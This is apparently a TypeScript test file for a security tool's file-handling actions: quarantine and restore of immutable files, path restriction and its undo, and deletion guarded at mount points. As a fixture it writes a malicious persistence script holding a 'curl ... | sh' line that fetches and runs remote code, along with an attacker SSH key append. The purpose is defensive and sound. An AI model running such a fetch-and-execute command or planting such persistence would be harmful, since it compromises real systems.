// The file actions' attribute flags and mount checks on a real ext4/tmpfs: immutable vault copies, quarantine and
// restore of an immutable, append-only file, path.restrict immutable and its exact undo, deleting an immutable file,
// and a recursive delete refused at a mount point. Clears every flag and unmounts even on failure.
// Run as root under `flock /tmp/vigil-system.lock`.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { VigilError } from '@vigil/common';
import type { ActionHandler } from '../handler.js';
import { createFileHandlers } from './file.js';
import { readFlags, hasFlag } from './internal/file-ops.js';
import { cleanupTestSupport, tempDir, testContext } from './internal/test-support.js';

const dirs: string[] = [];
const mounts: string[] = [];
const dir = (prefix: string) => {
  const path = tempDir(prefix);
  dirs.push(path);
  return path;
};

before(() => {
  assert.equal(process.getuid?.(), 0, 'the file system test needs root (chattr, mount)');
});
after(() => {
  for (const mount of mounts) spawnSync('umount', [mount]);
  for (const path of dirs) spawnSync('chattr', ['-R', '-i', '-a', path]);
  cleanupTestSupport();
  for (const path of dirs) assert.equal(existsSync(path), false, `${path} was not removed (a flag left set?)`);
});

function handlersFor(files: string): (name: string) => ActionHandler {
  const map = new Map(createFileHandlers({ allowedRoots: [files] }).map((h) => [h.action, h] as const));
  return (name) => map.get(name)!;
}

const lsattr = (path: string) => execFileSync('lsattr', ['-d', path], { encoding: 'utf8' }).split(' ')[0]!;

test('vault copies are immutable; an immutable, append-only file is quarantined and restored with its flags', async () => {
  const files = dir('files');
  const stateDir = dir('state');
  const handler = handlersFor(files);
  const path = join(files, 'persist.sh');
  writeFileSync(path, '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n');
  chmodSync(path, 0o755);
  execFileSync('chattr', ['+i', '+a', path]);
  assert.throws(() => unlinkSync(path), /EPERM/);
  const quarantined = await handler('file.quarantine').run({ path }, testContext(stateDir));
  assert.equal(quarantined.verified, true, quarantined.summary);
  assert.equal(existsSync(path), false);
  assert.equal(quarantined.details?.vault_immutable, true);
  const vaultCopy = join(stateDir, 'quarantine', `${quarantined.details?.vault_id as string}.bin`);
  assert.match(lsattr(vaultCopy), /i/);
  assert.throws(() => unlinkSync(vaultCopy), /EPERM/, 'the vault copy resists deletion');
  assert.match(String(quarantined.details?.flags), /i/);
  const restored = await handler('file.restore').run({ vault_id: quarantined.details?.vault_id }, testContext(stateDir));
  assert.equal(restored.verified, true, restored.summary);
  const flags = await readFlags(path);
  assert.ok(hasFlag(flags, 'i') && hasFlag(flags, 'a'), `restored flags ${flags}`);
  assert.equal(lstatSync(path).mode & 0o7777, 0o755);
  assert.equal(existsSync(vaultCopy), false);
});

test('path.restrict immutable blocks writes; path.unrestrict restores the previous mode and flags exactly', async () => {
  const files = dir('files');
  const stateDir = dir('state');
  const handler = handlersFor(files);
  const path = join(files, 'authorized_keys');
  writeFileSync(path, 'ssh-ed25519 AAAA legit\n');
  chmodSync(path, 0o644);
  const restricted = await handler('path.restrict').run({ path, mode: '0400', immutable: true }, testContext(stateDir));
  assert.equal(restricted.verified, true, restricted.summary);
  assert.match(lsattr(path), /i/);
  assert.throws(() => appendFileSync(path, 'ssh-ed25519 AAAA attacker\n'), /EPERM/);
  assert.equal(lstatSync(path).mode & 0o7777, 0o400);
  const undone = await handler('path.unrestrict').run({ path }, testContext(stateDir));
  assert.equal(undone.verified, true, undone.summary);
  assert.doesNotMatch(lsattr(path), /i/);
  assert.equal(lstatSync(path).mode & 0o7777, 0o644);
  appendFileSync(path, 'ssh-ed25519 AAAA second-legit\n');

  // A path that was append-only before keeps that flag after the undo.
  execFileSync('chattr', ['+a', path]);
  await handler('path.restrict').run({ path, immutable: true }, testContext(stateDir));
  assert.match(lsattr(path), /i/);
  await handler('path.unrestrict').run({ path }, testContext(stateDir));
  const flags = await readFlags(path);
  assert.ok(hasFlag(flags, 'a') && !hasFlag(flags, 'i'), `flags after undo: ${flags}`);
});

test('file.delete clears the immutable flag malware set, and refuses a recursive delete across a mount point', async () => {
  const files = dir('files');
  const stateDir = dir('state');
  const handler = handlersFor(files);
  const path = join(files, 'cron-dropper');
  writeFileSync(path, 'x');
  execFileSync('chattr', ['+i', path]);
  const deleted = await handler('file.delete').run({ path }, testContext(stateDir));
  assert.equal(deleted.verified, true, deleted.summary);
  assert.equal(deleted.details?.cleared_flags, true);
  assert.equal(existsSync(path), false);

  const tree = join(files, 'tree');
  const mountPoint = join(tree, 'mnt');
  mkdirSync(mountPoint, { recursive: true });
  execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'vigil-test', mountPoint]);
  mounts.push(mountPoint);
  writeFileSync(join(mountPoint, 'inside'), 'keep');
  await assert.rejects(handler('file.delete').run({ path: tree, recursive: true }, testContext(stateDir)), (e: unknown) => e instanceof VigilError && e.code === 'invalid_input' && /mount point/.test(e.message));
  assert.equal(readFileSync(join(mountPoint, 'inside'), 'utf8'), 'keep');
});
